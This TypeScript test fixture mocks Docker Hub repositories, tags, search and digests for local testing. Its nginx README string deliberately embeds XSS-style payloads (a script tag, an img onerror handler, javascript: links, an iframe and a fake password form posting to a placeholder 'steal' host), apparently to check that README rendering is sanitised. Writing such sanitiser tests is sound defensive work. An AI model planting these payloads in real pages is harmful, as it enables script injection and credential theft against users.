// What the local Docker Hub fixture knows: repositories shaped after real ones, a README with
// everything Markdown READMEs on the Hub carry (and a few hostile bits), tags with multi-arch
// images. Field names and value shapes are the Hub API's own (see docs/ARCHITECTURE.md).

export interface FixtureRepo {
  namespace: string
  name: string
  description: string
  stars: number
  pulls: number
  badge: 'official' | 'verified_publisher' | null
  publisher: string
  lastUpdated: string
  registered: string
  readme: string
  tags: string[]
}

export const NGINX_README = `# Quick reference

- **Maintained by**: [the NGINX Docker Maintainers](https://github.com/nginxinc/docker-nginx)
- **Where to get help**: [the Docker Community Slack](https://dockr.ly/comm-slack), [Server Fault](https://serverfault.com/help/on-topic)

![logo](https://raw.githubusercontent.com/docker-library/docs/master/nginx/logo.png)

# What is nginx?

Nginx (pronounced "engine-x") is an open source reverse proxy server for HTTP, HTTPS, SMTP, POP3, and IMAP protocols, as well as a load balancer, HTTP cache, and a web server (origin server).

## How to use this image

### Hosting some simple static content

\`\`\`console
$ docker run --name some-nginx -v /some/content:/usr/share/nginx/html:ro -d nginx
\`\`\`

Alternatively, a simple \`Dockerfile\` can be used to generate a new image that includes the necessary content:

\`\`\`dockerfile
FROM nginx
COPY static-html-directory /usr/share/nginx/html
\`\`\`

### Exposing external port

| Variable | Default | Meaning |
| --- | --- | --- |
| \`NGINX_HOST\` | \`localhost\` | The server name |
| \`NGINX_PORT\` | \`80\` | The port to listen on |
| \`NGINX_ENTRYPOINT_QUIET_LOGS\` | *(unset)* | Less output at start-up |

Then you can hit \`http://localhost:8080\` in your browser. See [the nginx documentation](https://nginx.org/en/docs/) for more.

> Note: the image runs as root by default; see [nginx-unprivileged](https://hub.docker.com/r/nginxinc/nginx-unprivileged) for an alternative.

<script>window.__hubPwned = 'script'; alert('script ran')</script>

<img src="https://example.invalid/track.png" onerror="window.__hubPwned = 'onerror'; alert('onerror ran')" alt="tracking pixel">

[Click for a free upgrade](javascript:window.__hubPwned='link')

<a href="javascript:alert('anchor ran')" onclick="window.__hubPwned='onclick'">Another trap</a>

<iframe src="https://example.invalid/frame"></iframe>

<form action="https://example.invalid/steal"><input name="password"><button>Log in</button></form>

# License

View [license information](https://nginx.org/LICENSE) for the software contained in this image.
`

const PLAIN_README = (name: string) => `# ${name}

Community image. Build it yourself:

\`\`\`sh
docker build -t ${name} .
\`\`\`
`

const NGINX_TAGS = [
  'latest',
  'mainline',
  '1.27.3',
  '1.27',
  '1',
  'stable',
  '1.26.2',
  '1.26',
  'alpine',
  'alpine-slim',
  '1.27.3-alpine',
  '1.27-alpine',
  'bookworm',
  '1.27.3-bookworm',
  'perl',
  '1.27.3-perl',
  'alpine-perl',
  'otel',
  '1.27.3-otel',
  'alpine-otel',
  'stable-alpine',
  '1.26.2-alpine',
  'stable-perl',
  'stable-otel',
  'mainline-alpine',
  'mainline-perl',
  'mainline-bookworm',
  '1.25.5',
  '1.25',
  '1.24.0',
]

const ALL: FixtureRepo[] = [
  {
    namespace: 'library',
    name: 'nginx',
    description: 'Official build of Nginx.',
    stars: 20_873,
    pulls: 11_284_912_345,
    badge: 'official',
    publisher: 'Docker Official Images',
    lastUpdated: '2026-11-20T09:12:33.123456Z',
    registered: '2014-06-05T19:14:45.655721Z',
    readme: NGINX_README,
    tags: NGINX_TAGS,
  },
  {
    namespace: 'library',
    name: 'redis',
    description: 'Redis is the world’s fastest data platform for caching, vector search, and NoSQL databases.',
    stars: 13_102,
    pulls: 6_412_000_000,
    badge: 'official',
    publisher: 'Docker Official Images',
    lastUpdated: '2026-11-18T22:04:11.000000Z',
    registered: '2014-06-05T20:04:50.000000Z',
    readme: PLAIN_README('redis'),
    tags: ['latest', '7.4', 'alpine'],
  },
  {
    namespace: 'bitnami',
    name: 'nginx',
    description: 'Bitnami container image for NGINX',
    stars: 191,
    pulls: 1_050_000_000,
    badge: 'verified_publisher',
    publisher: 'VMware',
    lastUpdated: '2026-11-21T03:40:02.000000Z',
    registered: '2016-09-13T12:00:00.000000Z',
    readme: PLAIN_README('bitnami/nginx'),
    tags: ['latest', '1.27.3'],
  },
  {
    namespace: 'nginxinc',
    name: 'nginx-unprivileged',
    description: 'Unprivileged NGINX Dockerfiles',
    stars: 157,
    pulls: 512_300_000,
    badge: 'verified_publisher',
    publisher: 'NGINX, Inc.',
    lastUpdated: '2026-11-19T15:00:00.000000Z',
    registered: '2019-03-01T10:00:00.000000Z',
    readme: PLAIN_README('nginxinc/nginx-unprivileged'),
    tags: ['latest', 'alpine'],
  },
  {
    namespace: 'nginx',
    name: 'nginx-ingress',
    description: 'NGINX and NGINX Plus Ingress Controllers for Kubernetes',
    stars: 98,
    pulls: 1_240_000_000,
    badge: 'verified_publisher',
    publisher: 'NGINX, Inc.',
    lastUpdated: '2026-11-12T08:30:00.000000Z',
    registered: '2016-10-10T10:00:00.000000Z',
    readme: PLAIN_README('nginx/nginx-ingress'),
    tags: ['latest'],
  },
  {
    namespace: 'jwilder',
    name: 'nginx-proxy',
    description: 'Automated nginx proxy for Docker containers using docker-gen',
    stars: 2_290,
    pulls: 100_400_000,
    badge: null,
    publisher: 'jwilder',
    lastUpdated: '2024-03-02T11:00:00.000000Z',
    registered: '2014-10-22T10:00:00.000000Z',
    readme: PLAIN_README('jwilder/nginx-proxy'),
    tags: ['latest', 'alpine'],
  },
  {
    namespace: 'linuxserver',
    name: 'nginx',
    description: 'An Nginx container, brought to you by LinuxServer.io.',
    stars: 213,
    pulls: 48_700_000,
    badge: null,
    publisher: 'linuxserver',
    lastUpdated: '2026-11-17T05:10:00.000000Z',
    registered: '2019-01-05T10:00:00.000000Z',
    readme: PLAIN_README('linuxserver/nginx'),
    tags: ['latest'],
  },
]

// Smaller community repositories, so a search for "nginx" has more than one page.
const COMMUNITY = [
  'alpine-nginx',
  'nginx-php-fpm',
  'nginx-rtmp',
  'nginx-certbot',
  'nginx-ldap',
  'nginx-brotli',
  'nginx-exporter',
  'nginx-vts',
  'nginx-geoip',
  'nginx-modsecurity',
  'nginx-s3-gateway',
  'nginx-quic',
  'nginx-static',
  'nginx-auth',
  'nginx-cache',
  'nginx-lua',
  'nginx-waf',
  'nginx-spa',
  'nginx-hls',
  'nginx-webdav',
  'nginx-upload',
  'nginx-lb',
  'nginx-dev',
  'nginx-mirror',
  'nginx-tiny',
]
COMMUNITY.forEach((name, i) => {
  const ns = ['webdevops', 'tiangolo', 'alfg', 'staticfloat', 'trafex', 'fholzer', 'macbre', 'gaoyifan', 'outlinewiki', 'owasp'][i % 10] as string
  ALL.push({
    namespace: ns,
    name,
    description: `${name.replace(/-/g, ' ')} image, maintained by ${ns}`,
    stars: 400 - i * 13,
    pulls: 9_000_000 - i * 310_000,
    badge: null,
    publisher: ns,
    lastUpdated: `2026-0${(i % 9) + 1}-1${i % 10}T10:00:00.000000Z`,
    registered: '2018-01-01T00:00:00.000000Z',
    readme: PLAIN_README(`${ns}/${name}`),
    tags: ['latest'],
  })
})

export function findRepo(namespace: string, name: string): FixtureRepo | undefined {
  return ALL.find((r) => r.namespace === namespace && r.name === name)
}

/** Search as the Hub ranks it closely enough: name or description contains the query, official first, then pulls. */
export function searchRepos(query: string): FixtureRepo[] {
  const q = query.toLowerCase()
  const rank = (r: FixtureRepo) => (r.badge === 'official' ? 2 : r.badge === 'verified_publisher' ? 1 : 0)
  return ALL.filter((r) => `${r.namespace}/${r.name} ${r.description}`.toLowerCase().includes(q)).sort((a, b) => rank(b) - rank(a) || b.pulls - a.pulls)
}

/** "1B+", "500M+", "10K+": how the catalog search shows pulls. */
export function pullFloor(n: number): string {
  const steps: [number, string][] = [
    [1e9, 'B'],
    [1e6, 'M'],
    [1e3, 'K'],
  ]
  for (const [size, unit] of steps) {
    if (n >= size) {
      const lead = Math.floor(n / size)
      const floor = lead >= 100 ? Math.floor(lead / 100) * 100 : lead >= 10 ? Math.floor(lead / 10) * 10 : lead
      return `${floor}${unit}+`
    }
  }
  return String(n)
}

const PLATFORMS = [
  { os: 'linux', architecture: 'amd64', variant: null },
  { os: 'linux', architecture: 'arm', variant: 'v7' },
  { os: 'linux', architecture: 'arm64', variant: 'v8' },
  { os: 'linux', architecture: '386', variant: null },
  { os: 'linux', architecture: 'ppc64le', variant: null },
  { os: 'linux', architecture: 's390x', variant: null },
] as const

function hex(seed: string): string {
  // A stable 64-hex digest from a string (FNV-1a, repeated), so digests never change between runs.
  let out = ''
  let h = 0x811c9dc5
  for (let round = 0; out.length < 64; round++) {
    for (const ch of `${seed}#${round}`) h = Math.imul(h ^ ch.charCodeAt(0), 0x01000193) >>> 0
    out += h.toString(16).padStart(8, '0')
  }
  return out.slice(0, 64)
}

/** A tag as /v2/namespaces/{ns}/repositories/{name}/tags lists it: every platform, plus an attestation. */
export function tagJson(repo: FixtureRepo, tag: string, index: number) {
  const multi = repo.namespace === 'library' && !tag.includes('perl')
  const platforms = multi ? PLATFORMS : PLATFORMS.slice(0, 1)
  const pushed = new Date(Date.parse(repo.lastUpdated) - index * 36 * 3600_000).toISOString()
  const base = tag.includes('alpine') ? 19_800_000 : 72_300_000
  const images: {
    architecture: string
    features: string
    variant: string | null
    digest: string
    os: string
    os_features: string
    os_version: null
    size: number
    status: string
    last_pulled: string
    last_pushed: string
  }[] = platforms.map((p, i) => ({
    architecture: p.architecture,
    features: '',
    variant: p.variant,
    digest: `sha256:${hex(`${repo.namespace}/${repo.name}:${tag}:${p.architecture}${p.variant ?? ''}`)}`,
    os: p.os,
    os_features: '',
    os_version: null,
    size: base - i * 1_734_113 + index * 2_111,
    status: 'active',
    last_pulled: '2026-11-23T10:00:00.000000Z',
    last_pushed: pushed,
  }))
  if (multi) {
    images.push({
      architecture: 'unknown',
      features: '',
      variant: null,
      digest: `sha256:${hex(`att:${tag}`)}`,
      os: 'unknown',
      os_features: '',
      os_version: null,
      size: 0,
      status: 'active',
      last_pulled: '2026-11-23T10:00:00.000000Z',
      last_pushed: pushed,
    })
  }
  return {
    creator: 7,
    id: 1000 + index,
    images,
    last_updated: pushed,
    last_updater: 1156886,
    last_updater_username: 'doijanky',
    name: tag,
    repository: 8,
    full_size: images[0]?.size ?? 0,
    v2: true,
    tag_status: 'active',
    tag_last_pulled: '2026-11-23T10:00:00.000000Z',
    tag_last_pushed: pushed,
    media_type: 'application/vnd.oci.image.index.v1+json',
    content_type: 'image',
    digest: `sha256:${hex(`${repo.namespace}/${repo.name}:${tag}`)}`,
  }
}
